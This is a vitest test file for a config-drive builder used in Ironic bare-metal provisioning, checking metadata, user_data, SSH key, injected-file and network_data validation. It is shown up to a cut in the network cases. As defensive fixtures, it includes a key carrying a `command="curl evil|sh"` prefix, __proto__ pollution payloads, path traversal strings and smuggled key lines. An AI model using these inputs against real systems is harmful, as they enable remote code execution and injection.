import { describe, it, expect } from "vitest";
import { DEFAULT_MTU } from "../../src/driver/config-drive/addresses.js";
import { buildConfigDrive } from "../../src/driver/config-drive/index.js";
import { INJECTED_FILES_UNSUPPORTED, validateInjectedFilePath, validateInjectedFiles } from "../../src/driver/config-drive/input.js";
import { CONFIG_DRIVE_LIMITS } from "../../src/driver/config-drive/limits.js";
import { buildNetworkData, type ConfigDriveNetwork } from "../../src/driver/config-drive/network-data.js";
import { InvalidInputError } from "../../src/driver/errors.js";
import type { InstanceSpec, PublicKeySpec, SubnetSpec, VifSpec } from "../../src/driver/instance-spec.js";
import type { Port, Portgroup } from "../../src/ironic/ports.js";
import { TEST_CERTIFICATE as CERTIFICATE } from "../support/test-certificate.js";

// ───────────────────────────── fixtures ─────────────────────────────

const INSTANCE_UUID = "1a2b3c4d-0000-4000-8000-000000000001";
const NODE_UUID = "99999999-0000-4000-8000-000000000000";
const SEED = "c2VlZA==";

function baseSpec(overrides: Partial<InstanceSpec> = {}): InstanceSpec {
  return {
    uuid: INSTANCE_UUID,
    name: "My Server",
    hostname: "My Server_01",
    projectId: "proj-1",
    userId: "user-1",
    flavor: { name: "bm", vcpus: 8, memoryMb: 16_384, rootGb: 100, swapMb: 0, ephemeralGb: 0, extraSpecs: {} },
    image: { id: "img-1", source: "http://images.example/img.qcow2", properties: {} },
    metadata: {},
    publicKeys: [],
    launchIndex: 0,
    availabilityZone: "az1",
    vifs: [],
    volumes: [],
    files: [],
    ...overrides,
  };
}

const NO_NETWORK: ConfigDriveNetwork = { vifs: [], ports: [], portgroups: [] };

function build(overrides: Partial<InstanceSpec> = {}, network: ConfigDriveNetwork = NO_NETWORK) {
  return buildConfigDrive(baseSpec(overrides), network, { randomSeed: () => SEED });
}

function metaOf(overrides: Partial<InstanceSpec>): Record<string, unknown> {
  const meta = build(overrides).meta_data;
  if (meta === undefined) throw new Error("meta_data missing");
  return meta;
}

/** An OpenSSH public key line with a syntactically correct blob of `blobType`. */
function sshKey(type: string, blobType: string = type, comment = "user@host"): string {
  const name = Buffer.from(blobType, "latin1");
  const header = Buffer.alloc(4);
  header.writeUInt32BE(name.length);
  const material = Buffer.alloc(4 + 32, 7);
  material.writeUInt32BE(32);
  return `${type} ${Buffer.concat([header, name, material]).toString("base64")}${comment === "" ? "" : ` ${comment}`}`;
}

function port(overrides: Partial<Port> & { uuid: string; address: string }): Port {
  return {
    node_uuid: NODE_UUID,
    portgroup_uuid: null,
    pxe_enabled: true,
    physical_network: null,
    local_link_connection: {},
    internal_info: {},
    extra: {},
    ...overrides,
  };
}

function portgroup(overrides: Partial<Portgroup> & { uuid: string }): Portgroup {
  return {
    name: "bond0",
    address: null,
    node_uuid: NODE_UUID,
    mode: null,
    properties: {},
    standalone_ports_supported: true,
    internal_info: {},
    extra: {},
    ...overrides,
  };
}

function v4Subnet(overrides: Partial<SubnetSpec> = {}): SubnetSpec {
  return { cidr: "192.0.2.0/24", ipVersion: 4, dnsNameservers: [], hostRoutes: [], enableDhcp: false, ...overrides };
}

function v6Subnet(overrides: Partial<SubnetSpec> = {}): SubnetSpec {
  return { cidr: "2001:db8::/64", ipVersion: 6, dnsNameservers: [], hostRoutes: [], enableDhcp: false, ...overrides };
}

function vif(id: string, fixedIps: VifSpec["fixedIps"], overrides: Partial<VifSpec> = {}): VifSpec {
  return { id, networkId: `net-${id}`, macAddress: "fa:16:3e:00:00:01", fixedIps, ...overrides };
}

const VIF_A = "aaaaaaaa-1111-4000-8000-000000000001";
const VIF_B = "bbbbbbbb-2222-4000-8000-000000000002";
const PORT_1 = "11111111-0000-4000-8000-000000000001";
const PORT_2 = "22222222-0000-4000-8000-000000000002";
const PORT_3 = "33333333-0000-4000-8000-000000000003";
const PG_1 = "44444444-0000-4000-8000-000000000004";

function expectInvalid(fn: () => unknown, message?: string | RegExp): void {
  expect(fn).toThrow(InvalidInputError);
  if (message !== undefined) expect(fn).toThrow(message);
}

// ───────────────────────────── meta_data ─────────────────────────────

describe("buildConfigDrive: meta_data", () => {
  it("carries the instance identity, a sanitized hostname and the injected random seed", () => {
    const meta = metaOf({ metadata: { role: "db" } });
    expect(meta).toEqual({
      uuid: INSTANCE_UUID,
      meta: { role: "db" },
      public_keys: {},
      keys: [],
      hostname: "my-server-01",
      name: "My Server",
      launch_index: 0,
      availability_zone: "az1",
      random_seed: SEED,
      project_id: "proj-1",
      devices: [],
    });
    expect(meta).not.toHaveProperty("admin_pass");
    expect(meta).not.toHaveProperty("files");
  });

  it("falls back to server-<first 8 of uuid> when the hostname has nothing usable", () => {
    expect(metaOf({ hostname: "日本語" })["hostname"]).toBe("server-1a2b3c4d");
  });

  it("adds admin_pass only when one is set", () => {
    expect(metaOf({ adminPass: "s3cret!" })["admin_pass"]).toBe("s3cret!");
  });

  it("does not echo the admin password in errors", () => {
    const secret = "p\u0000ssword-SECRET";
    expect(() => build({ adminPass: secret })).toThrow(InvalidInputError);
    try {
      build({ adminPass: secret });
    } catch (error: unknown) {
      expect(error instanceof Error ? error.message : "").not.toContain("SECRET");
    }
  });

  it("generates a 512-byte random seed by default", () => {
    const meta = buildConfigDrive(baseSpec(), NO_NETWORK).meta_data ?? {};
    expect(Buffer.from(String(meta["random_seed"]), "base64")).toHaveLength(512);
  });

  it("refuses a negative launch index", () => {
    expectInvalid(() => build({ launchIndex: -1 }), /launch_index/);
  });

  it("produces only plain JSON values (survives a JSON round trip unchanged)", () => {
    const drive = build(
      { metadata: { a: "b" }, userData: "#cloud-config\n", vendorData: { x: [1, true, null, { y: "z" }] }, publicKeys: [{ name: "k", type: "ssh", data: sshKey("ssh-ed25519") }] },
      { vifs: [vif(VIF_A, [{ ipAddress: "192.0.2.10", subnet: v4Subnet({ gatewayIp: "192.0.2.1" }) }])], ports: [], portgroups: [] },
    );
    expect(JSON.parse(JSON.stringify(drive))).toEqual(drive);
  });
});

describe("buildConfigDrive: metadata limits", () => {
  const items = (count: number): Record<string, string> => Object.fromEntries(Array.from({ length: count }, (_, i) => [`k${i}`, "v"]));
  const cases: Array<{ scenario: string; metadata: Record<string, string>; ok: boolean }> = [
    { scenario: "128 items accepted", metadata: items(CONFIG_DRIVE_LIMITS.metadataItems), ok: true },
    { scenario: "129 items refused", metadata: items(CONFIG_DRIVE_LIMITS.metadataItems + 1), ok: false },
    { scenario: "255-character key accepted", metadata: { ["k".repeat(255)]: "v" }, ok: true },
    { scenario: "256-character key refused", metadata: { ["k".repeat(256)]: "v" }, ok: false },
    { scenario: "255-character value accepted", metadata: { k: "v".repeat(255) }, ok: true },
    { scenario: "256-character value refused", metadata: { k: "v".repeat(256) }, ok: false },
    { scenario: "255 multi-byte characters accepted (limit is characters)", metadata: { k: "日".repeat(255) }, ok: true },
    { scenario: "255 astral characters accepted (code points, not UTF-16 units)", metadata: { k: "\u{1F600}".repeat(255) }, ok: true },
    { scenario: "256 astral characters refused", metadata: { k: "\u{1F600}".repeat(256) }, ok: false },
    { scenario: "empty key refused", metadata: { "": "v" }, ok: false },
    { scenario: "key with a newline refused", metadata: { "a\nb": "v" }, ok: false },
    { scenario: "key with DEL refused", metadata: { "a\u007fb": "v" }, ok: false },
    { scenario: "value with NUL refused", metadata: { k: "a\u0000b" }, ok: false },
    { scenario: "value with a newline accepted", metadata: { k: "line1\nline2" }, ok: true },
    { scenario: "value with a lone surrogate refused", metadata: { k: "\ud800" }, ok: false },
    { scenario: "non-string value refused", metadata: JSON.parse('{"k": 5}') as Record<string, string>, ok: false },
    { scenario: "nested object value refused", metadata: JSON.parse('{"k": {"a": "b"}}') as Record<string, string>, ok: false },
  ];

  it.each(cases)("$scenario", ({ metadata, ok }) => {
    if (ok) expect(metaOf({ metadata })["meta"]).toEqual(metadata);
    else expectInvalid(() => build({ metadata }));
  });

  it("keeps a __proto__ metadata key as plain data and pollutes nothing", () => {
    const metadata = JSON.parse('{"__proto__": "evil", "constructor": "x", "a": "b"}') as Record<string, string>;
    const meta = metaOf({ metadata })["meta"] as Record<string, unknown>;
    expect(Object.getPrototypeOf(meta)).toBe(Object.prototype);
    expect(Object.prototype.hasOwnProperty.call(meta, "__proto__")).toBe(true);
    expect(Object.getOwnPropertyDescriptor(meta, "__proto__")?.value).toBe("evil");
    expect(Object.keys(meta)).toEqual(["__proto__", "constructor", "a"]);
    expect(JSON.stringify(meta)).toBe('{"__proto__":"evil","constructor":"x","a":"b"}');
    expect(Object.prototype.hasOwnProperty.call(Object.prototype, "evil")).toBe(false);
  });

  it("refuses metadata that is not a plain object", () => {
    expectInvalid(() => build({ metadata: ["a"] as unknown as Record<string, string> }));
    expectInvalid(() => build({ metadata: null as unknown as Record<string, string> }));
  });
});

// ───────────────────────────── user_data / vendor_data ─────────────────────────────

describe("buildConfigDrive: user_data", () => {
  const limit = CONFIG_DRIVE_LIMITS.userDataBytes;
  const cases: Array<{ scenario: string; userData: string; ok: boolean }> = [
    { scenario: "65,535 ASCII bytes accepted", userData: "a".repeat(limit), ok: true },
    { scenario: "65,536 ASCII bytes refused", userData: "a".repeat(limit + 1), ok: false },
    { scenario: "65,535 bytes of 2-byte characters accepted", userData: `${"é".repeat((limit - 1) / 2)}a`, ok: true },
    { scenario: "65,536 bytes in 32,768 characters refused (bytes, not characters)", userData: "é".repeat(32_768), ok: false },
    { scenario: "4-byte characters counted in bytes", userData: "\u{1F600}".repeat(16_384), ok: false },
    { scenario: "lone surrogate refused (no UTF-8 encoding)", userData: "abc\udc00", ok: false },
    { scenario: "empty string passed through", userData: "", ok: true },
  ];

  it.each(cases)("$scenario", ({ userData, ok }) => {
    if (ok) expect(build({ userData }).user_data).toBe(userData);
    else expectInvalid(() => build({ userData }), /user_data/);
  });

  it("is absent when not given", () => {
    expect(build()).not.toHaveProperty("user_data");
  });

  it("does not echo user_data in the error", () => {
    expect(() => build({ userData: `TOPSECRET${"a".repeat(limit)}` })).toThrow(/^user_data is larger than 65535 bytes$/);
  });
});

describe("buildConfigDrive: vendor_data", () => {
  it("is copied as plain JSON", () => {
    const vendorData = { cloud: { region: "r1", tags: ["a", "b"], n: 1.5, on: false, none: null } };
    const drive = build({ vendorData });
    expect(drive.vendor_data).toEqual(vendorData);
    expect(drive.vendor_data).not.toBe(vendorData);
  });

  it("is absent when not given", () => {
    expect(build()).not.toHaveProperty("vendor_data");
  });

  it("keeps __proto__ as data without polluting prototypes", () => {
    const vendorData = JSON.parse('{"__proto__": {"polluted": true}, "a": {"__proto__": {"polluted": true}}}') as Record<string, unknown>;
    const copy = build({ vendorData }).vendor_data ?? {};
    expect(Object.prototype.hasOwnProperty.call(copy, "__proto__")).toBe(true);
    expect(Object.getPrototypeOf(copy)).toBe(Object.prototype);
    expect("polluted" in {}).toBe(false);
    expect(JSON.stringify(copy)).toBe('{"__proto__":{"polluted":true},"a":{"__proto__":{"polluted":true}}}');
  });

  const badCases: Array<{ scenario: string; vendorData: unknown }> = [
    { scenario: "serialized size over 65,535 bytes", vendorData: { blob: "x".repeat(CONFIG_DRIVE_LIMITS.vendorDataBytes) } },
    { scenario: "serialized size over the cap through escaping", vendorData: { blob: "\n".repeat(40_000) } },
    { scenario: "huge array stopped early", vendorData: { list: new Array<number>(200_000).fill(0) } },
    { scenario: "a function", vendorData: { f: () => 1 } },
    { scenario: "undefined", vendorData: { u: undefined } },
    { scenario: "NaN", vendorData: { n: Number.NaN } },
    { scenario: "a Date (not plain JSON)", vendorData: { d: new Date(0) } },
    { scenario: "a bigint", vendorData: { b: 1n } },
    { scenario: "nested too deep", vendorData: JSON.parse(`${"[".repeat(40)}${"]".repeat(40)}`.replace(/^/, '{"a":').concat("}")) as unknown },
    { scenario: "not an object", vendorData: ["a"] },
  ];

  it.each(badCases)("refuses $scenario", ({ vendorData }) => {
    expectInvalid(() => build({ vendorData: vendorData as Record<string, unknown> }), /vendor_data/);
  });
});

// ───────────────────────────── public keys ─────────────────────────────

describe("buildConfigDrive: public keys", () => {
  it("lists ssh keys in public_keys and keys, trimming a trailing newline", () => {
    const data = sshKey("ssh-ed25519");
    const meta = metaOf({
      publicKeys: [
        { name: "laptop", type: "ssh", data: `${data}\n` },
        { name: "cert", type: "x509", data: CERTIFICATE },
      ],
    });
    expect(meta["public_keys"]).toEqual({ laptop: data });
    expect(meta["keys"]).toEqual([
      { name: "laptop", type: "ssh", data },
      { name: "cert", type: "x509", data: CERTIFICATE },
    ]);
  });

  it.each(["ssh-rsa", "ssh-ed25519", "ecdsa-sha2-nistp256", "ecdsa-sha2-nistp384", "ecdsa-sha2-nistp521", "sk-ssh-ed25519@openssh.com", "sk-ecdsa-sha2-nistp256@openssh.com"])(
    "accepts key type %s",
    (type) => {
      expect(metaOf({ publicKeys: [{ name: "k", type: "ssh", data: sshKey(type, type, "") }] })["public_keys"]).toEqual({ k: sshKey(type, type, "") });
    },
  );

  const key = sshKey("ssh-ed25519");
  const badCases: Array<{ scenario: string; keys: PublicKeySpec[] }> = [
    { scenario: "not a key at all", keys: [{ name: "k", type: "ssh", data: "hello world" }] },
    { scenario: "unknown type (ssh-dss)", keys: [{ name: "k", type: "ssh", data: sshKey("ssh-dss") }] },
    { scenario: "body is not base64", keys: [{ name: "k", type: "ssh", data: "ssh-ed25519 !!!notbase64!!! c" }] },
    { scenario: "no body", keys: [{ name: "k", type: "ssh", data: "ssh-ed25519" }] },
    { scenario: "blob type does not match the prefix", keys: [{ name: "k", type: "ssh", data: sshKey("ssh-rsa", "ssh-ed25519") }] },
    { scenario: "authorized_keys options prefix", keys: [{ name: "k", type: "ssh", data: `command="curl evil|sh" ${key}` }] },
    { scenario: "a second line smuggled inside", keys: [{ name: "k", type: "ssh", data: `${key}\n${sshKey("ssh-rsa")}` }] },
    { scenario: "carriage return inside", keys: [{ name: "k", type: "ssh", data: `${key}\rx` }] },
    { scenario: "NUL in the comment", keys: [{ name: "k", type: "ssh", data: `${key}\u0000` }] },
    { scenario: "too long", keys: [{ name: "k", type: "ssh", data: `${key} ${"c".repeat(CONFIG_DRIVE_LIMITS.publicKeyChars)}` }] },
    { scenario: "duplicate names", keys: [{ name: "k", type: "ssh", data: key }, { name: "k", type: "ssh", data: key }] },
    { scenario: "empty name", keys: [{ name: "", type: "ssh", data: key }] },
    { scenario: "unknown key kind", keys: [{ name: "k", type: "pgp" as "ssh", data: key }] },
    { scenario: "x509 that is not PEM", keys: [{ name: "k", type: "x509", data: "not a certificate" }] },
    { scenario: "x509 PEM with a corrupt body", keys: [{ name: "k", type: "x509", data: CERTIFICATE.replace("MIIB", "AAAA") }] },
    { scenario: "too many keys", keys: Array.from({ length: CONFIG_DRIVE_LIMITS.publicKeys + 1 }, (_, i) => ({ name: `k${i}`, type: "ssh" as const, data: key })) },
  ];

  it.each(badCases)("refuses $scenario", ({ keys }) => {
    expectInvalid(() => build({ publicKeys: keys }));
  });

  it("accepts exactly 100 keys", () => {
    const keys = Array.from({ length: CONFIG_DRIVE_LIMITS.publicKeys }, (_, i) => ({ name: `k${i}`, type: "ssh" as const, data: key }));
    expect(Object.keys(metaOf({ publicKeys: keys })["public_keys"] as object)).toHaveLength(100);
  });

  it("keeps a __proto__ key name as data", () => {
    const meta = metaOf({ publicKeys: [{ name: "__proto__", type: "ssh", data: key }] });
    const publicKeys = meta["public_keys"] as Record<string, unknown>;
    expect(Object.getOwnPropertyDescriptor(publicKeys, "__proto__")?.value).toBe(key);
    expect(Object.getPrototypeOf(publicKeys)).toBe(Object.prototype);
  });
});

// ───────────────────────────── injected files ─────────────────────────────

describe("injected files", () => {
  it("are refused by buildConfigDrive: Ironic's dict config drive cannot carry them", () => {
    expectInvalid(() => build({ files: [{ path: "/etc/motd", contents: "aGk=" }] }), INJECTED_FILES_UNSUPPORTED);
  });

  const pathCases: Array<{ scenario: string; path: string; expected?: string }> = [
    { scenario: "absolute path accepted", path: "/etc/x", expected: "/etc/x" },
    { scenario: "redundant slashes and dots normalized", path: "//etc/./ssh//x", expected: "/etc/ssh/x" },
    { scenario: "255 characters accepted", path: `/${"a".repeat(254)}`, expected: `/${"a".repeat(254)}` },
    { scenario: "256 characters refused", path: `/${"a".repeat(255)}` },
    { scenario: "relative parent refused", path: "../x" },
    { scenario: "traversal above the root refused (not silently resolved)", path: "/etc/../../x" },
    { scenario: "any '..' segment refused", path: "/etc/../x" },
    { scenario: "relative path refused", path: "relative" },
    { scenario: "dot-relative path refused", path: "./x" },
    { scenario: "NUL refused", path: "/etc/x\u0000.sh" },
    { scenario: "newline refused", path: "/etc/x\ny" },
    { scenario: "backslash refused", path: "/etc\\..\\x" },
    { scenario: "root itself refused", path: "/" },
    { scenario: "directory (trailing slash) refused", path: "/etc/" },
    { scenario: "empty refused", path: "" },
  ];

  it.each(pathCases)("validateInjectedFilePath: $scenario", ({ path, expected }) => {
    if (expected !== undefined) expect(validateInjectedFilePath(path)).toBe(expected);
    else expectInvalid(() => validateInjectedFilePath(path));
  });

  it("validateInjectedFilePath refuses a non-string", () => {
    expectInvalid(() => validateInjectedFilePath(42));
  });

  const b64 = (bytes: number): string => Buffer.alloc(bytes, 1).toString("base64");
  const fileCases: Array<{ scenario: string; files: unknown; ok: boolean }> = [
    { scenario: "5 files of 10,240 bytes accepted", files: Array.from({ length: 5 }, (_, i) => ({ path: `/f${i}`, contents: b64(10_240) })), ok: true },
    { scenario: "6 files refused", files: Array.from({ length: 6 }, (_, i) => ({ path: `/f${i}`, contents: "" })), ok: false },
    { scenario: "10,241 bytes refused", files: [{ path: "/f", contents: b64(10_241) }], ok: false },
    { scenario: "contents not base64 refused", files: [{ path: "/f", contents: "not base64!" }], ok: false },
    { scenario: "base64 without padding refused", files: [{ path: "/f", contents: "aGk" }], ok: false },
    { scenario: "same path twice after normalization refused", files: [{ path: "/etc/x", contents: "" }, { path: "/etc//x", contents: "" }], ok: false },
    { scenario: "bad path refused", files: [{ path: "../x", contents: "" }], ok: false },
  ];

  it.each(fileCases)("validateInjectedFiles: $scenario", ({ files, ok }) => {
    if (ok) expect(validateInjectedFiles(files)).toHaveLength((files as unknown[]).length);
    else expectInvalid(() => validateInjectedFiles(files));
  });
});

// ───────────────────────────── network_data ─────────────────────────────

describe("buildConfigDrive: network_data", () => {
  const boundPort = port({ uuid: PORT_1, address: "52:54:00:AA:BB:01", internal_info: { tenant_vif_port_id: VIF_A } });

  const cases: Array<{ scenario: string; network: ConfigDriveNetwork; expected: Record<string, unknown> }> = [
    {
      scenario: "no VIFs: empty lists, no crash",
      network: NO_NETWORK,
      expected: { links: [], networks: [], services: [] },
    },
    {
      scenario: "one VIF on a plain port: MAC from the Ironic port, default MTU",
      network: { vifs: [vif(VIF_A, [{ ipAddress: "192.0.2.10", subnet: v4Subnet() }])], ports: [boundPort], portgroups: [] },
      expected: {
        links: [{ id: "iface0", type: "phy", ethernet_mac_address: "52:54:00:aa:bb:01", mtu: DEFAULT_MTU, vif_id: VIF_A }],
        networks: [{ id: "network0", type: "ipv4", link: "iface0", ip_address: "192.0.2.10", netmask: "255.255.255.0", routes: [], network_id: `net-${VIF_A}`, services: [] }],
        services: [],
      },
    },
    {
      scenario: "a VLAN the machine tags: a vlan link on the port's link carries the VIF and the address",
      network: { vifs: [vif(VIF_A, [{ ipAddress: "192.0.2.10", subnet: v4Subnet() }], { vlanId: 120, mtu: 9000 })], ports: [boundPort], portgroups: [] },
      expected: {
        links: [
          { id: "iface0", type: "phy", ethernet_mac_address: "52:54:00:aa:bb:01", mtu: 9000 },
          { id: "vlan0", type: "vlan", vlan_link: "iface0", vlan_id: 120, vlan_mac_address: "52:54:00:aa:bb:01", mtu: 9000, vif_id: VIF_A },
        ],
        networks: [{ id: "network0", type: "ipv4", link: "vlan0", ip_address: "192.0.2.10", netmask: "255.255.255.0", routes: [], network_id: `net-${VIF_A}`, services: [] }],
        services: [],
      },
    },
    {
      scenario: "static IPv4 with gateway, DNS and a host route",
      network: {
        vifs: [
          vif(
            VIF_A,
            [
              {
                ipAddress: "10.0.5.20",
                subnet: v4Subnet({
                  cidr: "10.0.0.0/16",
                  gatewayIp: "10.0.0.1",
                  dnsNameservers: ["10.0.0.53", "10.0.0.54", "10.0.0.53"],
                  hostRoutes: [{ destination: "172.16.9.9/12", nexthop: "10.0.0.254" }],
                }),
              },
            ],
            { mtu: 9000 },
          ),
        ],
        ports: [boundPort],
        portgroups: [],
      },
      expected: {
        links: [{ id: "iface0", type: "phy", ethernet_mac_address: "52:54:00:aa:bb:01", mtu: 9000, vif_id: VIF_A }],
        networks: [
          {
            id: "network0",
            type: "ipv4",
            link: "iface0",
            ip_address: "10.0.5.20",
            netmask: "255.255.0.0",
            routes: [
              { network: "0.0.0.0", netmask: "0.0.0.0", gateway: "10.0.0.1" },
              { network: "172.16.0.0", netmask: "255.240.0.0", gateway: "10.0.0.254" },
            ],
            network_id: `net-${VIF_A}`,
            services: [
              { type: "dns", address: "10.0.0.53" },
              { type: "dns", address: "10.0.0.54" },
            ],
          },
        ],
        services: [
          { type: "dns", address: "10.0.0.53" },
          { type: "dns", address: "10.0.0.54" },
        ],
      },
    },
    {
      scenario: "DHCP IPv4 (bound through extra.vif_port_id)",
      network: {
        vifs: [vif(VIF_A, [{ ipAddress: "192.0.2.10", subnet: v4Subnet({ enableDhcp: true, gatewayIp: "192.0.2.1", dnsNameservers: ["192.0.2.53"] }) }])],
        ports: [port({ uuid: PORT_1, address: "52:54:00:aa:bb:01", extra: { vif_port_id: VIF_A } })],
        portgroups: [],
      },
      expected: {
        links: [{ id: "iface0", type: "phy", ethernet_mac_address: "52:54:00:aa:bb:01", mtu: DEFAULT_MTU, vif_id: VIF_A }],
        networks: [{ id: "network0", type: "ipv4_dhcp", link: "iface0", network_id: `net-${VIF_A}` }],
        services: [{ type: "dns", address: "192.0.2.53" }],
      },
    },
    {
      scenario: "IPv6 slaac (static entry, expanded netmask, v6 host route)",
      network: {
        vifs: [
          vif(VIF_A, [
            {
              ipAddress: "2001:db8::f816:3eff:fe00:1",
              subnet: v6Subnet({
                enableDhcp: true,
                ipv6AddressMode: "slaac",
                gatewayIp: "2001:db8::1",
                dnsNameservers: ["2001:4860:4860::8888"],
                hostRoutes: [{ destination: "2001:db8:ff00::1/40", nexthop: "2001:db8::fe" }],
              }),
            },
          ]),
        ],
        ports: [boundPort],
        portgroups: [],
      },
      expected: {
        links: [{ id: "iface0", type: "phy", ethernet_mac_address: "52:54:00:aa:bb:01", mtu: DEFAULT_MTU, vif_id: VIF_A }],
        networks: [
          {
            id: "network0",
            type: "ipv6_slaac",
            link: "iface0",
            ip_address: "2001:db8::f816:3eff:fe00:1",
            netmask: "ffff:ffff:ffff:ffff::",
            routes: [
              { network: "::", netmask: "::", gateway: "2001:db8::1" },
              { network: "2001:db8:ff00::", netmask: "ffff:ffff:ff00::", gateway: "2001:db8::fe" },
            ],
            network_id: `net-${VIF_A}`,
            services: [{ type: "dns", address: "2001:4860:4860::8888" }],
          },
        ],
        services: [{ type: "dns", address: "2001:4860:4860::8888" }],
      },
    },
    {
      scenario: "IPv6 DHCP without an address mode",
      network: { vifs: [vif(VIF_A, [{ ipAddress: "2001:db8::5", subnet: v6Subnet({ enableDhcp: true }) }])], ports: [boundPort], portgroups: [] },
      expected: {
        links: [{ id: "iface0", type: "phy", ethernet_mac_address: "52:54:00:aa:bb:01", mtu: DEFAULT_MTU, vif_id: VIF_A }],
        networks: [{ id: "network0", type: "ipv6_dhcp", link: "iface0", network_id: `net-${VIF_A}` }],
        services: [],
      },
    },
    {
      scenario: "VIF bound to a portgroup with two member ports",
      network: {
        vifs: [vif(VIF_A, [{ ipAddress: "192.0.2.10", subnet: v4Subnet({ enableDhcp: true }) }], { mtu: 9000 })],
        ports: [
          port({ uuid: PORT_1, address: "52:54:00:00:00:01", portgroup_uuid: PG_1 }),
          port({ uuid: PORT_3, address: "52:54:00:00:00:03" }),
          port({ uuid: PORT_2, address: "52:54:00:00:00:02", portgroup_uuid: PG_1 }),
        ],
        portgroups: [
          portgroup({
            uuid: PG_1,
            address: "52:54:00:00:00:0A",
            mode: "802.3ad",
            internal_info: { tenant_vif_port_id: VIF_A },
            properties: {
              miimon: 100,
              xmit_hash_policy: "layer3+4",
              bond_lacp_rate: "fast",
              use_carrier: true,
              mode: "balance-rr", // must not override the portgroup's mode
              nested: { a: 1 }, // not scalar: skipped
              "bad key": 1, // odd key: skipped
            },
          }),
        ],
      },
      expected: {
        links: [
          {
            id: "iface0",
            type: "bond",
            ethernet_mac_address: "52:54:00:00:00:0a",
            mtu: 9000,
            vif_id: VIF_A,
            bond_mode: "802.3ad",
            bond_links: ["iface1", "iface2"],
            bond_miimon: 100,
            bond_xmit_hash_policy: "layer3+4",
            bond_lacp_rate: "fast",
            bond_use_carrier: true,
          },
          { id: "iface1", type: "phy", ethernet_mac_address: "52:54:00:00:00:01", mtu: 9000 },
          { id: "iface2", type: "phy", ethernet_mac_address: "52:54:00:00:00:02", mtu: 9000 },
        ],
        networks: [{ id: "network0", type: "ipv4_dhcp", link: "iface0", network_id: `net-${VIF_A}` }],
        services: [],
      },
    },
    {
      scenario: "two VIFs sharing a DNS server: top-level services de-duplicated",
      network: {
        vifs: [
          vif(VIF_A, [{ ipAddress: "192.0.2.10", subnet: v4Subnet({ dnsNameservers: ["8.8.8.8", "192.0.2.53"] }) }]),
          vif(VIF_B, [{ ipAddress: "198.51.100.10", subnet: v4Subnet({ cidr: "198.51.100.0/24", dnsNameservers: ["8.8.8.8"] }) }], { macAddress: "FA:16:3E:00:00:02" }),
        ],
        ports: [boundPort],
        portgroups: [],
      },
      expected: {
        links: [
          { id: "iface0", type: "phy", ethernet_mac_address: "52:54:00:aa:bb:01", mtu: DEFAULT_MTU, vif_id: VIF_A },
          { id: "iface1", type: "phy", ethernet_mac_address: "fa:16:3e:00:00:02", mtu: DEFAULT_MTU, vif_id: VIF_B },
        ],
        networks: [
          {
            id: "network0",
            type: "ipv4",
            link: "iface0",
            ip_address: "192.0.2.10",
            netmask: "255.255.255.0",
            routes: [],
            network_id: `net-${VIF_A}`,
            services: [
              { type: "dns", address: "8.8.8.8" },
              { type: "dns", address: "192.0.2.53" },
            ],
          },
          {
            id: "network1",
            type: "ipv4",
            link: "iface1",
            ip_address: "198.51.100.10",
            netmask: "255.255.255.0",
            routes: [],
            network_id: `net-${VIF_B}`,
            services: [{ type: "dns", address: "8.8.8.8" }],
          },
        ],
        services: [
          { type: "dns", address: "8.8.8.8" },
          { type: "dns", address: "192.0.2.53" },
        ],
      },
    },
    {
      scenario: "a VIF without fixed IPs gets no link",
      network: { vifs: [vif(VIF_B, []), vif(VIF_A, [{ ipAddress: "192.0.2.10", subnet: v4Subnet({ enableDhcp: true }) }])], ports: [boundPort], portgroups: [] },
      expected: {
        links: [{ id: "iface0", type: "phy", ethernet_mac_address: "52:54:00:aa:bb:01", mtu: DEFAULT_MTU, vif_id: VIF_A }],
        networks: [{ id: "network0", type: "ipv4_dhcp", link: "iface0", network_id: `net-${VIF_A}` }],
        services: [],
      },
    },
  ];

  it.each(cases)("$scenario", ({ network, expected }) => {
    const data = build({}, network).network_data;
    expect(data).toEqual(expected);
    // Ironic treats a link without a numeric MTU as invalid network data.
    for (const link of (data?.["links"] ?? []) as Array<Record<string, unknown>>) expect(typeof link["mtu"]).toBe("number");
  });

  it("uses the portgroup default mode active-backup and falls back to the VIF MAC", () => {
    const data = buildNetworkData({
      vifs: [vif(VIF_A, [{ ipAddress: "192.0.2.10", subnet: v4Subnet({ enableDhcp: true }) }])],
      ports: [],
      portgroups: [portgroup({ uuid: PG_1, internal_info: { tenant_vif_port_id: VIF_A } })],
    });
    expect(data.links).toEqual([
      { id: "iface0", type: "bond", ethernet_mac_address: "fa:16:3e:00:00:01", mtu: DEFAULT_MTU, vif_id: VIF_A, bond_mode: "active-backup", bond_links: [] },
    ]);
  });

  it("accepts an IPv4-mapped IPv6 address inside its subnet", () => {
    const data = buildNetworkData({
      vifs: [vif(VIF_A, [{ ipAddress: "::ffff:192.0.2.5", subnet: v6Subnet({ cidr: "::ffff:192.0.2.0/120" }) }])],
      ports: [boundPort],
      portgroups: [],
    });
    expect(data.networks[0]).toMatchObject({ ip_address: "::ffff:192.0.2.5", netmask: "ffff:ffff:ffff:ffff:ffff:ffff:ffff:ff00" });
  });

  const one = (fixed: VifSpec["fixedIps"], overrides: Partial<VifSpec> = {}): ConfigDriveNetwork => ({ vifs: [vif(VIF_A, fixed, overrides)], ports: [boundPort], portgroups: [] });
  const badCases: Array<{ scenario: string; network: ConfigDriveNetwork }> = [
    { scenario: "fixed IP is not an address", network: one([{ ipAddress: "192.0.2.300", subnet: v4Subnet() }]) },
    { scenario: "fixed IP with a zone id", network: one([{ ipAddress: "fe80::1%eth0", subnet: v6Subnet({ cidr: "fe80::/64" }) }]) },
    { scenario: "fixed IP outside its subnet", network: one([{ ipAddress: "198.51.100.1", subnet: v4Subnet() }]) },
    { scenario: "fixed IP of the wrong family", network: one([{ ipAddress: "2001:db8::5", subnet: v4Subnet() }]) },
    { scenario: "CIDR without a prefix", network: one([{ ipAddress: "192.0.2.10", subnet: v4Subnet({ cidr: "192.0.2.0" }) }]) },
    { scenario: "CIDR prefix too long", network: one([{ ipAddress: "192.0.2.10", subnet: v4Subnet({ cidr: "192.0.2.0/33" }) }]) },
    { scenario: "CIDR prefix with junk", network: one([{ ipAddress: "192.0.2.10", subnet: v4Subnet({ cidr: "192.0.2.0/24x" }) }]) },
    { scenario: "CIDR family disagrees with ipVersion", network: one([{ ipAddress: "2001:db8::5", subnet: v6Subnet({ cidr: "192.0.2.0/24" }) }]) },
    { scenario: "gateway is not an address", network: one([{ ipAddress: "192.0.2.10", subnet: v4Subnet({ gatewayIp: "gateway" }) }]) },
